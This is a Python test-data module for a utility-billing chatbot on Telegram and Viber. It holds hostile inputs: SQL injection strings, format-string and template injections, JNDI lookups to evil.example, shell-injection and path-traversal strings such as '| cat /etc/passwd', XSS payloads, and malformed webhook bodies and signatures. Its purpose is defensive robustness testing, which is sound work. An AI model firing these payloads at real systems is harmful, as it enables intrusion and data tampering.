"""The hostile-input corpus, as data.

``CASES`` is what a resident can send: typed texts, button actions (a Telegram callback's data, a
Viber ``act:`` body) and media. The suite feeds every case at every conversation step through the
engine, and ``CHANNEL_SUBSET`` through the real Telegram and Viber channels. Every case must get
a clear answer.

The structural cases below are per channel: raw Telegram updates (polling), webhook bodies and
secret tokens, Viber bodies and signatures — each with the answer the channel must give.

No case is a correct answer to a question the bot asks at the step where it is fed (the fact step
asks for the last payment of account 1001001, 1234.50): hostile input must never bind an account,
store a reading or change billing data.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any, Literal

Kind = Literal["text", "action", "media"]


@dataclass(frozen=True)
class Case:
    name: str
    kind: Kind
    value: str
    category: str

    def __str__(self) -> str:
        return self.name


# --- typed text ---------------------------------------------------------------------------------

NUMBERS = [
    "abc",
    "twelve",
    "сто двадцять",
    "一百二十三",
    "NaN",
    "nan",
    "Infinity",
    "-Infinity",
    "inf",
    "1e5",
    "1E5",
    "1e-5",
    "1e999999",
    "-1e308",
    "0x1F",
    "0b101",
    "0o17",
    "1_000",
    "-0",
    "+5",
    "--5",
    "5-",
    "- 5",
    "−5",  # U+2212 minus
    "‐5",  # U+2010 hyphen
    "5.",
    ".5",
    ",5",
    "5,",
    "1,2,3",
    "1.2.3",
    "1 2 3",
    "1\t2",
    "1\n2",
    "0",
    "00000",
    "0000000000000000000001",
    "9" * 16,
    "9" * 40,
    "9" * 400,
    "1" + "0" * 30,
    "0." + "0" * 20 + "1",
    "123456789.123456",
    "999999999.9999999",
    "99999999999999999999.99",
    "4600,5 kWh",
    "4 600,5 кВт·год",
    "4600.5 m³",
    "$4600.5",
    "4.600,5",
    "4,600.5",
    "4'600.5",
    "4 600.5",  # thin space
    "4600..5",
    "4600,,5",
    "12:30",
    "1/2",
    "50%",
    "≈4600",
    ">4600",
    "(4600)",
    "'4600'",
    "4600 4601",
    "4600?",
    "-4600",
    "4600.55555555",
    "0.000",
    "1O01OO1",  # letters O
    "l001001",  # letter l
]

UNICODE_DIGITS = [
    "١٢٣",  # Arabic-Indic
    "٤٦٠٠٫٥",  # Arabic-Indic with the Arabic decimal separator
    "۴۶۰۰",  # Extended Arabic-Indic (Persian)
    "１２３",  # full-width
    "４６００．５",
    "१२३",  # Devanagari
    "১২৩",  # Bengali
    "๑๒๓",  # Thai
    "߁߂߃",  # NKo
    "𝟏𝟐𝟑",  # mathematical bold
    "𝟜𝟞𝟘𝟘",  # mathematical double-struck
    "①②③",  # circled: isdigit() but not decimal
    "½",
    "²³",
    "Ⅻ",
    "፩፪፫",  # Ethiopic
    "〇一二",
    "4️⃣6️⃣0️⃣0️⃣",  # keycaps
    "１００１００１",  # an existing account number, full-width
    "١٠٠١٠٠١",
    "٩٩٩٩٩٩٩٩٩٩٩٩٩٩٩٩٩٩٩٩",
]

INVISIBLE_AND_RTL = [
    "\u202e5.0064",  # right-to-left override
    "\u200f4600",  # right-to-left mark
    "\u200e4600",  # left-to-right mark
    "4\u200b6\u200c0\u200d0",  # zero-width space / non-joiner / joiner
    "\ufeff4600",  # BOM
    "4600\u00ad",  # soft hyphen
    "\u2066123\u2069",  # isolates
    "\u061c123",  # Arabic letter mark
    "\u200b" * 50,
    "1001\u200b001",
    "مرحبا",
    "שלום 123",
    "\u202eevil\u202c",
    "\u2028",  # line separator
    "\u2029",  # paragraph separator
    "4\u03006\u03010",  # combining accents
    "4600\u20e3",
    "Z\u0334\u0321\u032a\u0315\u034ca\u0337l\u0336g\u0338o\u0335",  # zalgo
    "🔥",
    "👨‍👩‍👧‍👦",
    "🇺🇦",
    "😀🎉👍",
    "\u3000",  # ideographic space
    "\u00a0",
    " ",
    "",
    "\t",
    "\n",
    "\r\n",
    "\x0b\x0c",
    "\x00",
    "\x00" * 10,
    "4600\x00",
    "\x1b[31mred\x1b[0m",
    "\x07\x08\x7f",
    "\ufffd",
    "\ufffe\uffff",
    "\U0010ffff",
    "𐀀𐀁",
    "ｱｲｳ",
    "ＡＢＣ",
    "\ud800",  # a lone surrogate (only a forged update can carry it)
    "a\udfffz",
]

LONG_TEXTS = [
    "x" * 10_000,
    "9" * 10_000,
    "😀" * 5_000,
    "ж" * 10_000,
    "\n" * 10_000,
    " " * 10_000,
    "{0}" * 3_334,
    "<b>" * 3_334,
    "'; DROP TABLE accounts; --" * 400,
    "a " * 5_000,
    "\u200b" * 10_000,
    "1" * 10_000 + ".5",
    "/start " + "x" * 9_993,
    "/" + "a" * 9_999,
    "%s%n" * 2_500,
    "一" * 10_000,
]

SQL_INJECTION = [
    "'; DROP TABLE accounts; --",
    "1001001'; DROP TABLE accounts; --",
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "1001001 OR 1=1",
    "1001001' OR '1'='1' --",
    "1; DELETE FROM bindings; --",
    "'); INSERT INTO bindings (chat_id, account_id) VALUES (1, 1); --",
    "1001001 UNION SELECT holder FROM accounts --",
    "' UNION SELECT NULL, holder, address FROM accounts --",
    "%' OR '%'='",
    "_",
    "%",
    "%%",
    "1001001%",
    "100100_",
    "'",
    "''",
    '"',
    "`",
    "\\",
    "\\'",
    "admin'--",
    "'; UPDATE accounts SET balance = 0; --",
    "999.99'; UPDATE accounts SET balance=0 --",
    "Robert'); DROP TABLE chats;--",
    "1; ATTACH DATABASE '/tmp/x.db' AS x; --",
    "'; PRAGMA writable_schema=1; --",
    "$$; DROP TABLE accounts; $$",
    "1001001/*comment*/",
    "1001001 --",
    "CHAR(49)",
    "'; SELECT pg_sleep(5); --",
    "1 AND (SELECT 1 FROM accounts LIMIT 1)=1",
    "1001001\x00' OR '1'='1",
    "Шевченко' OR '1'='1",
    "'; TRUNCATE readings; --",
    "0; VACUUM; --",
    "1001001); DROP TABLE meters; --",
]

FORMAT_STRINGS = [
    "{0.__class__}",
    "{0.__class__.__mro__}",
    "{0.__init__.__globals__}",
    "{count}",
    "{left}",
    "{until}",
    "{number}",
    "{address}",
    "{holder}",
    "{provider}",
    "{providers}",
    "{language}",
    "{period}",
    "{receipt}",
    "{value}",
    "{meter}",
    "{}",
    "{0}",
    "{0!r}",
    "{0:>10000}",
    "{:%Y}",
    "{{}}",
    "{",
    "}",
    "{0",
    "{self}",
    "{ctx.config.telegram.token}",
    "{__import__('os').system('id')}",
    "%s",
    "%s%n",
    "%s%s%s%s%s%s%s",
    "%n%n%n",
    "%x%x%x",
    "%(name)s",
    "%(count)d",
    "%d",
    "%1$s",
    "%.9999999f",
    "${jndi:ldap://evil.example/a}",
    "${jndi:dns://evil.example}",
    "${env:UTILIBOT_TELEGRAM_TOKEN}",
    "${7*7}",
    "{{7*7}}",
    "{{config}}",
    "{% debug %}",
    "#{7*7}",
    "<%= 7*7 %>",
    "$(id)",
    "`id`",
    "; ls -la",
    "| cat /etc/passwd",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "\\N{BULLET}",
    "\\u0000",
    "%00",
    "%0d%0aSet-Cookie: x=y",
    "\r\nX-Injected: 1",
    "4600{count}",
]

MARKUP = [
    "<b>bold</b>",
    "<i>x</i>",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="tg://user?id=1">x</a>',
    "&lt;b&gt;",
    "&amp;",
    "&#60;b&#62;",
    "&#x3C;",
    "&nbsp;",
    "</b>",
    "<",
    ">",
    "&",
    "*bold*",
    "_italic_",
    "`code`",
    "```pre```",
    "[link](https://evil.example)",
    "||spoiler||",
    "<tg-spoiler>x</tg-spoiler>",
    "<font color='red'>x</font>",
    "<![CDATA[x]]>",
    "<?xml version='1.0'?>",
    "@admin",
    "https://evil.example/phish",
    "javascript:alert(1)",
    "tg://resolve?domain=x",
    "viber://chat?number=x",
    "+380501234567",
]

COMMANDS_AND_WORDS = [
    "/START",
    "/Start@utilibot_test_bot",
    "/start@other_bot",
    "/start extra words",
    "/",
    "//",
    "/ start",
    "/start\n/menu",
    "/menu",
    "/help",
    "/cancel",
    "/add",
    "/readings",
    "/history",
    "/language",
    "/accounts",
    "/balance",
    "/pay",
    "/charges",
    "/payments",
    "/broadcast",
    "/broadcasts",
    "/settings",
    "/unknown",
    "/" + "a" * 63,
    "/" + "a" * 64,
    "/start\u200b",
    "／start",  # full-width slash
    "/старт",
    "\\start",
    "start",
    "menu",
    "Confirm",
    "Cancel",
    "Yes",
    "ok",
    "rd:confirm",
    "act:",
    "act:zzz",
    "act:act:menu",
    "English",
    "Українська",
    "en",
    "zh",
    "lang:en",
    "агент знижка",  # the fraud words
    "discount agent",
    "代缴打八折",
    "Шевченко",
    "Коваль",
    "вул. Шевченка, 12, кв. 45",
    "кв. 45",
    "45",
]

_TEXT_GROUPS = {
    "number": NUMBERS,
    "unicode-digit": UNICODE_DIGITS,
    "invisible": INVISIBLE_AND_RTL,
    "long": LONG_TEXTS,
    "sql": SQL_INJECTION,
    "format": FORMAT_STRINGS,
    "markup": MARKUP,
    "command": COMMANDS_AND_WORDS,
}

# --- button actions (Telegram callback data, Viber "act:" bodies) --------------------------------

ACTIONS = [
    "",
    ":",
    "::",
    "menu:x",
    "bal:1",
    "pay:999",
    "help:x",
    "lang:",
    "lang:xx",
    "lang:en:extra",
    "lang:../../etc",
    "lang:EN",
    "lang:{0.__class__}",
    "acc",
    "acc:",
    "acc:add:extra",
    "acc:use:",
    "acc:use:abc",
    "acc:use:-1",
    "acc:use:0",
    "acc:use:2",  # an existing account this chat is not bound to
    "acc:use:999999",
    "acc:use:1.5",
    "acc:use: 1",
    "acc:del:2",
    "acc:delok:2",
    "acc:delok:999999",
    "acc:delok:abc",
    "acc:zzz:1",
    "accp:",
    "accp:nobody",
    "accp:teplo:extra",
    "accp:TEPLO",
    "accp:'; DROP TABLE accounts; --",
    "accp:{0.__class__}",
    "rd:",
    "rd:acc",
    "rd:acc:2",
    "rd:acc:abc",
    "rd:hist:2",
    "rd:hist:abc",
    "rd:fix",
    "rd:fix:99",
    "rd:fix:-1",
    "rd:zzz",
    "chg:2026-13",
    "chg:'; DROP TABLE charges; --",
    "pmt:1",
    "chart:x",
    "cancel:x",
    "set:t:xxx",
    "op:list",
    "op:stop:1",
    "op:k:e",
    "zzz:1",
    "\x00",
    "👍",
    "a" * 64,
    "act:menu",
    "%s%n",
    "<b>x</b>",
    # Numeric arguments that str.isdigit() accepts but are no database id (fixed bugs).
    "acc:use:²",
    "acc:delok:①",
    "rd:acc:²",
    "rd:hist:①",
    "rd:fix:²",
    "acc:use:99999999999999999999",
    "rd:acc:99999999999999999999",
]

MEDIA = ["sticker", "photo", "voice", "location", "contact"]


def _build() -> list[Case]:
    cases: list[Case] = []
    for category, texts in _TEXT_GROUPS.items():
        cases += [Case(f"{category}-{index:03d}", "text", text, category) for index, text in enumerate(texts)]
    cases += [Case(f"action-{index:03d}", "action", action, "action") for index, action in enumerate(ACTIONS)]
    cases += [Case(f"media-{kind}", "media", kind, "media") for kind in MEDIA]
    names = [case.name for case in cases]
    assert len(names) == len(set(names))
    return cases


CASES: list[Case] = _build()



def _channel_subset() -> list[Case]:
    """A representative subset for the real channels: the long texts and media whole, every 8th case of
    every other category."""
    chosen: list[Case] = []
    by_category: dict[str, list[Case]] = {}
    for case in CASES:
        by_category.setdefault(case.category, []).append(case)
    for category, members in by_category.items():
        chosen += members if category in ("long", "media") else members[::8]
    return chosen


CHANNEL_SUBSET: list[Case] = _channel_subset()

# Steps of the conversation every case is fed at (STEP_SCRIPTS below says how each is reached).
STEP_NAMES = ("idle", "language", "provider", "number", "fact", "value", "unusual", "summary")


def channel_steps(index: int) -> tuple[str, str]:
    """The steps the channel subset's case number ``index`` is fed at: idle, where anyone lands, and one
    other step in turn, so that every step is covered on every channel."""
    return STEP_NAMES[0], STEP_NAMES[1 + index % (len(STEP_NAMES) - 1)]


# --- Telegram: raw updates (polling) ---------------------------------------------------------------

# Each builder gets (chat_id, a message factory) and returns a raw update without update_id, and what
# the channel must do: "reply" (answers the chat) or "ignore" (stored, marked handled, no answer).
UpdateBuilder = Callable[[int, Callable[..., dict[str, Any]]], dict[str, Any]]


def _user(chat: int, **extra: Any) -> dict[str, Any]:
    return {"id": chat, "is_bot": False, "first_name": "Test", **extra}


TELEGRAM_UPDATES: list[tuple[str, str, UpdateBuilder]] = [
    ("unknown update type", "ignore", lambda chat, msg: {"brand_new_update_type": {"x": 1}}),
    ("empty update", "ignore", lambda chat, msg: {}),
    ("edited message", "ignore", lambda chat, msg: {"edited_message": msg(chat, text="/start")}),
    ("channel post", "ignore", lambda chat, msg: {"channel_post": msg(chat, text="/start")}),
    (
        "inline query",
        "ignore",
        lambda chat, msg: {"inline_query": {"id": "1", "from": _user(chat), "query": "x", "offset": ""}},
    ),
    ("message without chat", "ignore", lambda chat, msg: {"message": {"message_id": 1, "date": 1}}),
    ("message is a string", "ignore", lambda chat, msg: {"message": "hello"}),
    ("message is null", "ignore", lambda chat, msg: {"message": None}),
    ("text is a number", "ignore", lambda chat, msg: {"message": msg(chat, text=12345)}),
    ("text is a list", "ignore", lambda chat, msg: {"message": msg(chat, text=["a"])}),
    (
        "chat id is a string",
        "ignore",
        lambda chat, msg: {"message": {**msg(chat, text="/start"), "chat": {"id": "abc", "type": "private"}}},
    ),
    (
        "group chat",
        "ignore",
        lambda chat, msg: {"message": {**msg(chat, text="/start"), "chat": {"id": chat, "type": "group"}}},
    ),
    (
        "supergroup chat",
        "ignore",
        lambda chat, msg: {
            "message": {
                **msg(chat, text="/start"),
                "chat": {"id": chat, "type": "supergroup", "title": "<b>x</b>"},
            }
        },
    ),
    (
        "message without from",
        "reply",
        lambda chat, msg: {"message": {k: v for k, v in msg(chat, text="/start").items() if k != "from"}},
    ),
    (
        "language code unknown",
        "reply",
        lambda chat, msg: {"message": msg(chat, language_code="xx-YY", text="/start")},
    ),
    (
        "language code hostile",
        "reply",
        lambda chat, msg: {"message": msg(chat, language_code="'; DROP TABLE chats; --{0}", text="/start")},
    ),
    (
        "language code huge",
        "reply",
        lambda chat, msg: {"message": msg(chat, language_code="e" * 5000, text="/start")},
    ),
    (
        "callback without message",
        "reply",
        lambda chat, msg: {
            "callback_query": {"id": "cbx", "from": _user(chat), "chat_instance": "x", "data": "menu"}
        },
    ),
    (
        "callback without data",
        "reply",
        lambda chat, msg: {
            "callback_query": {
                "id": "cby",
                "from": _user(chat),
                "chat_instance": "x",
                "message": msg(chat, text="menu"),
            }
        },
    ),
    (
        "callback data 1000 bytes",
        "reply",
        lambda chat, msg: {
            "callback_query": {
                "id": "cbz",
                "from": _user(chat),
                "chat_instance": "x",
                "data": "zzz:" + "9" * 996,
                "message": msg(chat, text="m"),
            }
        },
    ),
    (
        "callback game",
        "reply",
        lambda chat, msg: {
            "callback_query": {
                "id": "cbg",
                "from": _user(chat),
                "chat_instance": "x",
                "game_short_name": "x",
                "message": msg(chat, text="m"),
            }
        },
    ),
    (
        "chat member update",
        "ignore",
        lambda chat, msg: {
            "my_chat_member": {
                "chat": {"id": chat, "type": "private"},
                "from": _user(chat),
                "date": 1,
                "old_chat_member": {},
                "new_chat_member": {},
            }
        },
    ),
    ("poll", "ignore", lambda chat, msg: {"poll": {"id": "p", "question": "?", "options": []}}),
    (
        "message with everything unknown",
        "reply",
        lambda chat, msg: {"message": {**msg(chat, text="/start"), "zzz": {"deep": [1, {"x": None}]}}},
    ),
    ("dice", "reply", lambda chat, msg: {"message": msg(chat, dice={"emoji": "🎲", "value": 6})}),
    (
        "document",
        "reply",
        lambda chat, msg: {
            "message": msg(
                chat, document={"file_id": "d", "file_unique_id": "du", "file_name": "<b>x</b>.pdf"}
            )
        },
    ),
    (
        "caption only",
        "reply",
        lambda chat, msg: {
            "message": msg(
                chat,
                caption="{0.__class__} '; DROP TABLE accounts; --",
                photo=[{"file_id": "p", "file_unique_id": "pu", "width": 1, "height": 1}],
            )
        },
    ),
    (
        "entities pointing out of range",
        "reply",
        lambda chat, msg: {
            "message": msg(chat, text="/start", entities=[{"type": "bold", "offset": 999, "length": 99}])
        },
    ),
]


# --- Telegram: webhook bodies and secret tokens ----------------------------------------------------

WEBHOOK_SECRET = "s3cret-Token_1"

# (name, header value or None for no header) — all must be answered 401 and change nothing.
WRONG_SECRETS: list[tuple[str, str | None]] = [
    ("no header", None),
    ("empty", ""),
    ("wrong", "wrong"),
    ("secret plus one", WEBHOOK_SECRET + "x"),
    ("secret minus one", WEBHOOK_SECRET[:-1]),
    ("upper case", WEBHOOK_SECRET.upper()),
    ("inner space", WEBHOOK_SECRET[:3] + " " + WEBHOOK_SECRET[3:]),
    ("non-ascii look-alike", WEBHOOK_SECRET.replace("e", "е")),  # Cyrillic е
    ("prefix", "Bearer " + WEBHOOK_SECRET),
    ("very long", WEBHOOK_SECRET * 500),
    ("sql", "' OR '1'='1"),
]


def webhook_bodies(good: dict[str, Any]) -> list[tuple[str, bytes, int]]:
    """(name, body, the HTTP status the webhook must answer) — all but the last are refused."""
    encoded = json.dumps(good).encode()
    bodies: list[tuple[str, bytes, int]] = [
        ("empty", b"", 400),
        ("not json", b"{not json", 400),
        ("array", b"[1, 2]", 400),
        ("string", b'"update"', 400),
        ("number", b"42", 400),
        ("null", b"null", 400),
        ("update_id string", json.dumps({**good, "update_id": "77"}).encode(), 400),
        ("update_id float", json.dumps({**good, "update_id": 77.5}).encode(), 400),
        ("update_id bool", json.dumps({**good, "update_id": True}).encode(), 400),
        ("update_id null", json.dumps({**good, "update_id": None}).encode(), 400),
        ("no update_id", json.dumps({k: v for k, v in good.items() if k != "update_id"}).encode(), 400),
        ("invalid utf-8", b"\xff\xfe", 400),
        ("nan", b'{"update_id": NaN}', 400),
        ("too large", b'{"update_id": 1, "pad": "' + b"x" * (1024 * 1024) + b'"}', 413),
    ]
    # Truncated at several points: every prefix of a valid update is refused.
    for cut in (1, 2, len(encoded) // 4, len(encoded) // 2, len(encoded) - 2, len(encoded) - 1):
        bodies.append((f"truncated at {cut}", encoded[:cut], 400))
    return bodies


# JSON nested deeper than the parser's recursion limit: valid JSON, but json.loads raises RecursionError
# (not a ValueError). Both webhooks must refuse it with a 400 like any other body they cannot read.
DEEP_TELEGRAM_BODY = b'{"update_id": 1, "x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
DEEP_VIBER_BODY = b'{"event": "message", "x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"


# --- Viber: bodies and signatures ------------------------------------------------------------------


def viber_bad_bodies(event: dict[str, Any], user: str) -> list[tuple[str, bytes, int]]:
    """(name, signed body, status) for bodies the webhook must refuse without storing anything."""
    without = {
        key: {k: v for k, v in event.items() if k != key} for key in ("message_token", "timestamp", "sender")
    }
    encoded = json.dumps(event).encode()
    bodies: list[tuple[str, bytes, int]] = [
        ("empty", b"", 400),
        ("not json", b"{not json", 400),
        ("array", b"[1, 2]", 400),
        ("string", b'"message"', 400),
        ("null", b"null", 400),
        ("event is a number", b'{"event": 5}', 400),
        ("event is null", b'{"event": null}', 400),
        ("invalid utf-8", b'{"event": "message", "x": "\xff\xfe"}', 400),
        ("utf-16", encoded.decode().encode("utf-16"), 400),
        ("nan", b'{"event": "message", "timestamp": NaN}', 400),
        ("no message_token", json.dumps(without["message_token"]).encode(), 400),
        ("message_token not digits", json.dumps({**event, "message_token": "12ab"}).encode(), 400),
        ("message_token float", json.dumps({**event, "message_token": 1.5}).encode(), 400),
        ("message_token negative", json.dumps({**event, "message_token": "-5"}).encode(), 400),
        ("message_token 200 digits", json.dumps({**event, "message_token": "9" * 200}).encode(), 400),
        ("no timestamp", json.dumps(without["timestamp"]).encode(), 400),
        ("timestamp string", json.dumps({**event, "timestamp": "now"}).encode(), 400),
        ("no sender", json.dumps(without["sender"]).encode(), 400),
        ("sender id number", json.dumps({**event, "sender": {"id": 42}}).encode(), 400),
        ("sender id too long", json.dumps({**event, "sender": {"id": "u" * 65}}).encode(), 400),
        ("message is a string", json.dumps({**event, "message": "hi"}).encode(), 400),
        ("message is null", json.dumps({**event, "message": None}).encode(), 400),
        ("too large", b'{"event": "message", "pad": "' + b"x" * (1024 * 1024) + b'"}', 413),
    ]
    for cut in (1, len(encoded) // 2, len(encoded) - 1):
        bodies.append((f"truncated at {cut}", encoded[:cut], 400))
    return bodies


def viber_odd_messages() -> list[tuple[str, dict[str, Any]]]:
    """Well-signed message callbacks with unusual content: each must get an answer."""
    return [
        ("picture", {"type": "picture", "media": "https://dl.example/p.jpg", "text": "<b>my</b> meter"}),
        ("sticker", {"type": "sticker", "sticker_id": 46105}),
        ("location", {"type": "location", "location": {"lat": 1e308, "lon": -1e308}}),
        ("contact", {"type": "contact", "contact": {"name": "{0.__class__}", "phone_number": "'; --"}}),
        ("file", {"type": "file", "media": "https://dl.example/f.pdf", "file_name": "../../x", "size": -1}),
        ("unknown type", {"type": "hologram", "text": "/start"}),
        ("no type", {"text": "/start"}),
        ("text is a number", {"type": "text", "text": 12345}),
        ("text is null", {"type": "text", "text": None}),
        ("text is a list", {"type": "text", "text": ["/start"]}),
        ("empty message", {}),
        ("tracking data", {"type": "text", "text": "/menu", "tracking_data": "x" * 5000}),
    ]


# (name, signature header) — all must be answered 403 (the body itself is fine).
def viber_bad_signatures(good: str, other_token_signature: str) -> list[tuple[str, str | None]]:
    flipped = good[:-1] + ("0" if good[-1] != "0" else "1")
    return [
        ("absent", None),
        ("empty", ""),
        ("another token", other_token_signature),
        ("one digit changed", flipped),
        ("truncated", good[:-1]),
        ("one digit more", good + "0"),
        ("not hex", "z" * 64),
        ("non-ascii", "é" * 64),
        ("prefixed", "sha256=" + good),
        ("inner space", good[:32] + " " + good[32:]),
        ("sql", "' OR '1'='1"),
        ("very long", good * 100),
    ]


VIBER_UNHANDLED_EVENTS = [
    {"event": "brand_new_event", "timestamp": 1, "message_token": 1},
    {"event": "delivered", "timestamp": 1, "message_token": 2, "user_id": "x"},
    {"event": "seen", "timestamp": 1, "message_token": 3, "user_id": "x"},
    {"event": "failed", "timestamp": 1, "message_token": 4, "user_id": "x", "desc": "{0.__class__}"},
    {"event": "webhook", "timestamp": 1, "message_token": 5},
    {"event": "client_status", "timestamp": 1},
    {"event": ""},
    {"event": "x" * 10_000},
]


# --- how each step is reached ----------------------------------------------------------------------

# From a new chat: (kind, value) inputs through the engine, and the state the chat is in afterwards.
# The account is 1001001 (teplo, last payment 1234.50; meters E-77 day/night, a smart heat meter,
# M1001001); "1200" is below the first meter's previous reading, so it asks for a confirmation.
_BIND = [("action", "acc:add"), ("action", "accp:teplo"), ("text", "1001001"), ("text", "1234.50")]
STEP_SCRIPTS: dict[str, tuple[list[tuple[str, str]], str]] = {
    "idle": ([("text", "/start")], ""),
    "language": ([("text", "/start"), ("action", "lang")], ""),
    "provider": ([("action", "acc:add")], "bind:provider"),
    "number": (_BIND[:2], "bind:number"),
    "fact": (_BIND[:3], "bind:fact"),
    "value": ([*_BIND, ("action", "rd")], "rd:value"),
    "unusual": ([*_BIND, ("action", "rd"), ("text", "1200")], "rd:unusual"),
    "summary": (
        [*_BIND, ("action", "rd"), ("text", "4600.5"), ("text", "1240"), ("text", "130.456")],
        "rd:summary",
    ),
}
assert tuple(STEP_SCRIPTS) == STEP_NAMES
